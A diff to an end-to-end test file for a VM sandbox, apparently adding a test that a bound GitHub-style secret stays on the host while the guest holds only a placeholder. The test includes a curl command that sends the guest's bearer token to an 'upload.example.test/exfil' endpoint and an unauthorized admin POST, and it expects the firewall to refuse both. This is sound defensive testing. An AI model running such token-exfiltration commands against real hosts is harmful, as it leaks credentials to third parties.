@@ -6,8 +6,8 @@
 // test/helpers/netlab.ts) by bare address, by name and by TLS name. Prompts
 // and what each answer writes, persisted rules across a reboot, a root user
 // who flushes iptables and adds a route of his own and still reaches nothing,
-// DNS over the host path, and a live snapshot that really brings memory and
-// disk back.
+// DNS over the host path, a secret that stays on the host while the guest
+// uses it, and a live snapshot that really brings memory and disk back.
 import { readFile, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -15,6 +15,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { XrayEvent } from '../../src-main/shared/contract';
 import type { FirewallPrompt, HookRun, PromptScope } from '../../src-main/shared/models';
 import { FIREWALL_PROBE_IP, HOST_INTERNAL_IP } from '../../src-main/core/firewall';
+import { EGRESS_HOOK_NAME } from '../../src-main/core/guest/egress';
 import { SETUP_HOOK_NAME, VERIFY_HOOK_NAME } from '../../src-main/core/guest/setup';
 import { connectVm, type SshSession } from '../../src-main/core/ssh';
 import { hostSupervisor, type SupervisorHost } from '../../src-main/core/supervisor/host';
@@ -33,6 +34,9 @@ const BOOT_MS = 4 * 60_000;
 const BUILD_TIMEOUT_MS = 40 * 60_000;
 const BODY = 'hello from the host\n';
 const FIRST_STEP = 'boots, runs the setup hooks once, and reports the firewall active';
+/** SECRET is bound to vault.example.test; the guest gets only its placeholder. */
+const SECRET = 'ghp_e2eTokenThatLivesOnlyOnTheHost0123456789';
+const savedSecretBackend = process.env.XRAY_SECRET_BACKEND;
 
 let home: TestHome;
 let host: SupervisorHost;
@@ -83,15 +87,16 @@ async function diagnostics(): Promise<string> {
 
 /**
  * startAndVerify starts the VM and waits until it is ready and the built-in
- * boot hook has verified the in-guest redirection; a failed built-in hook
- * fails at once with its error.
+ * boot hooks have run (the last gives the guest its egress CA and secret
+ * placeholders, after the in-guest redirection was verified); a failed
+ * built-in hook fails at once with its error.
  */
 async function startAndVerify(): Promise<void> {
   const verified = new Promise<void>((resolve, reject) => {
     waitForEvent(
-      (e) => e.type === 'hook.finished' && e.run.vm === VM && e.run.source === 'built-in' && (e.run.error !== null || e.run.script === VERIFY_HOOK_NAME),
+      (e) => e.type === 'hook.finished' && e.run.vm === VM && e.run.source === 'built-in' && (e.run.error !== null || e.run.script === EGRESS_HOOK_NAME),
       BOOT_MS,
-      'verified guest firewall',
+      'the built-in boot hooks to finish',
     ).then(async (e) => {
       const run = (e as Extract<XrayEvent, { type: 'hook.finished' }>).run;
       if (run.error === null) resolve();
@@ -180,6 +185,21 @@ function outside(): TestInternet {
   return net;
 }
 
+/**
+ * bindVaultSecret sets a secret and binds it to vault.example.test before the
+ * first boot, as a person would: the boot hooks then give the guest the VM's
+ * CA and the placeholder in GITHUB_TOKEN. vault allows GET and refuses POST
+ * under /admin/; upload.example.test is intercepted for its HTTP rule;
+ * plain.example.test is allowed and has neither.
+ */
+async function bindVaultSecret(): Promise<void> {
+  await host.service.call('secret.set', { name: 'github', value: SECRET });
+  await host.service.call('secret.bind', { vm: VM, secret: 'github', hosts: ['vault.example.test'], header: 'Authorization', format: 'Bearer {}', env: 'GITHUB_TOKEN' });
+  const rules = ['vault.example.test:443', 'plain.example.test:443', 'upload.example.test GET,POST /*'];
+  for (const target of rules) await host.service.call('firewall.add', { vm: VM, target, action: 'allow', lifetime: 'forever' });
+  await host.service.call('firewall.add', { vm: VM, target: 'vault.example.test POST /admin/*', action: 'deny', lifetime: 'forever' });
+}
+
 function curlHost(port: number, seconds = 60): Promise<Shell> {
   return sh(`curl -sS -m ${seconds} http://host.xray.internal:${port}/`, (seconds + 30) * 1000);
 }
@@ -188,10 +208,16 @@ describe.skipIf(skip)('a real guest behind its firewall', () => {
   beforeAll(async () => {
     const { image } = await ensureTestGuest({ log: (line) => process.stderr.write(`[guest build] ${line}\n`) });
     home = await makeTestHome('xray-e2e-guest-');
-    if (internetSupport.ok) net = await startTestInternet({ names: { 'www.example.test': 'web', 'other.example.test': 'web' } });
-    // The guest's names resolve in the test internet: the documented dns_servers setting.
+    if (internetSupport.ok) {
+      net = await startTestInternet({
+        names: { 'www.example.test': 'web', 'other.example.test': 'web', 'vault.example.test': 'tls', 'upload.example.test': 'tls', 'plain.example.test': 'tls' },
+      });
+    }
+    // The guest's names resolve in the test internet (the documented dns_servers setting), and Xray trusts its
+    // HTTPS server's CA when it intercepts (upstream_ca_file).
     // stop_timeout stays at its default: the stops below show how this guest really goes down.
-    await writeFile(home.paths.configFile, net ? `dns_servers = ["${net.dnsServer}"]\n` : '');
+    await writeFile(home.paths.configFile, net ? `dns_servers = ["${net.dnsServer}"]\nupstream_ca_file = "${net.caCertPath}"\n` : '');
+    process.env.XRAY_SECRET_BACKEND = 'file';
     web = createServer((_req, res) => res.end(BODY));
     webPort = await listen(web);
     otherWeb = createServer((_req, res) => res.end('must not be reached\n'));
@@ -200,6 +226,7 @@ describe.skipIf(skip)('a real guest behind its firewall', () => {
     host.service.subscribe((e) => events.push(e));
     await host.service.call('base.import', { path: image, name: 'debian', arch: 'x86_64', link: true, cloudInit: true });
     await host.service.call('vm.create', { name: VM, base: 'debian', memoryMb: 1024, cpus: 2, sshUser: 'xray' });
+    if (net) await bindVaultSecret();
   }, BUILD_TIMEOUT_MS);
 
   afterAll(async () => {
@@ -209,6 +236,8 @@ describe.skipIf(skip)('a real guest behind its firewall', () => {
     otherWeb?.close();
     await net?.close();
     await home?.cleanup();
+    if (savedSecretBackend === undefined) delete process.env.XRAY_SECRET_BACKEND;
+    else process.env.XRAY_SECRET_BACKEND = savedSecretBackend;
   }, 120_000);
 
   beforeEach(({ task }) => {
@@ -222,6 +251,7 @@ describe.skipIf(skip)('a real guest behind its firewall', () => {
     expect(finished.map((r: HookRun) => [r.type, r.script, r.error])).toEqual([
       ['initial-boot', SETUP_HOOK_NAME, null],
       ['boot', VERIFY_HOOK_NAME, null],
+      ['boot', EGRESS_HOOK_NAME, null],
     ]);
     expect(events.some((e) => e.type === 'firewall.status' && e.vm === VM && e.active)).toBe(true);
   }, BOOT_MS + 30_000);
@@ -294,6 +324,47 @@ describe.skipIf(skip)('a real guest behind its firewall', () => {
     expect(await rulesFile()).toMatchObject({ 'secure.example.test:443': 'allow' });
     expect((await outside().requests()).some((r) => r.server === 'tls' && r.sni === 'secure.example.test')).toBe(true);
   }, 180_000);
+
+  it.skipIf(noInternet)('keeps a bound secret on the host: the guest holds a placeholder, and the value reaches only its host, in its header', async () => {
+    const { addresses } = outside();
+    const [binding] = await host.service.call('secret.bindings', { vm: VM });
+    const placeholder = binding?.placeholder ?? 'none';
+    // A new login, as a person's: PAM reads /etc/environment when a connection logs in.
+    dropSession();
+    expect((await sh('printenv GITHUB_TOKEN')).stdout.trim()).toBe(placeholder);
+    // No --cacert: the boot hook put the VM's CA into the guest's trust store.
+    const used = await sh('curl -sS -m 60 -H "Authorization: Bearer $GITHUB_TOKEN" https://vault.example.test/api');
+    expect(used).toMatchObject({ code: 0, stdout: `hello from tls ${addresses.tls} host=vault.example.test path=/api\n` });
+    const arrived = (await outside().requests()).filter((r) => r.path === '/api');
+    expect(arrived.map((r) => r.authorization)).toEqual([`Bearer ${SECRET}`]);
+
+    const exfiltration = await sh('curl -sS -m 60 -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $GITHUB_TOKEN" https://upload.example.test/exfil');
+    expect(exfiltration.stdout).toBe('403');
+    const admin = await sh('curl -sS -m 60 -o /dev/null -w "%{http_code}" -X POST -H "Authorization: Bearer $GITHUB_TOKEN" https://vault.example.test/admin/users');
+    expect(admin.stdout).toBe('403');
+    const seen = (await outside().requests()).map((r) => r.path);
+    expect(seen).not.toContain('/exfil');
+    expect(seen).not.toContain('/admin/users');
+    const timeline = await host.service.call('vm.timeline', { vm: VM });
+    expect(timeline).toContainEqual(expect.objectContaining({ kind: 'egress', report: expect.objectContaining({ kind: 'secret-refused', secret: 'github', host: 'upload.example.test' }) }));
+    expect(timeline).toContainEqual(expect.objectContaining({ kind: 'egress', report: expect.objectContaining({ kind: 'request-refused', host: 'vault.example.test', method: 'POST' }) }));
+
+    // A host with no binding and no HTTP rule stays end to end: the guest sees the server's own certificate.
+    expect((await (await session()).exec('cat > /tmp/netlab-ca.pem', { stdin: outside().caCertPem })).code).toBe(0);
+    expect(await sh('curl -sS -m 60 --cacert /tmp/netlab-ca.pem https://plain.example.test/own-certificate')).toMatchObject({ code: 0, stdout: expect.stringContaining('path=/own-certificate') });
+    expect((await sh('curl -sS -m 60 --cacert /tmp/netlab-ca.pem https://vault.example.test/intercepted')).code).not.toBe(0);
+
+    // The value is nowhere in the guest: not in its environment, not in a file the hooks wrote. (The pattern goes
+    // in on stdin, so no command line or log in the guest holds it.)
+    const search = async (command: string): Promise<string> => {
+      let out = '';
+      await (await session()).exec(command, { stdin: `${SECRET}\n`, timeoutMs: 240_000, onStdout: (t) => (out += t) });
+      return out.trim();
+    };
+    expect(await search('env | grep -c -F -f /dev/stdin || true')).toBe('0');
+    expect(await search('sudo -n grep -rIl -F -f /dev/stdin /etc /home /root /var /tmp /run /opt /usr/local 2>/dev/null || true')).toBe('');
+    expect(JSON.stringify(events)).not.toContain(SECRET);
+  }, 600_000);
 
   it.skipIf(noInternet)('asks about a server that speaks no HTTP, and "the address on any port" writes the bare address', async () => {
     const { addresses, ports } = outside();
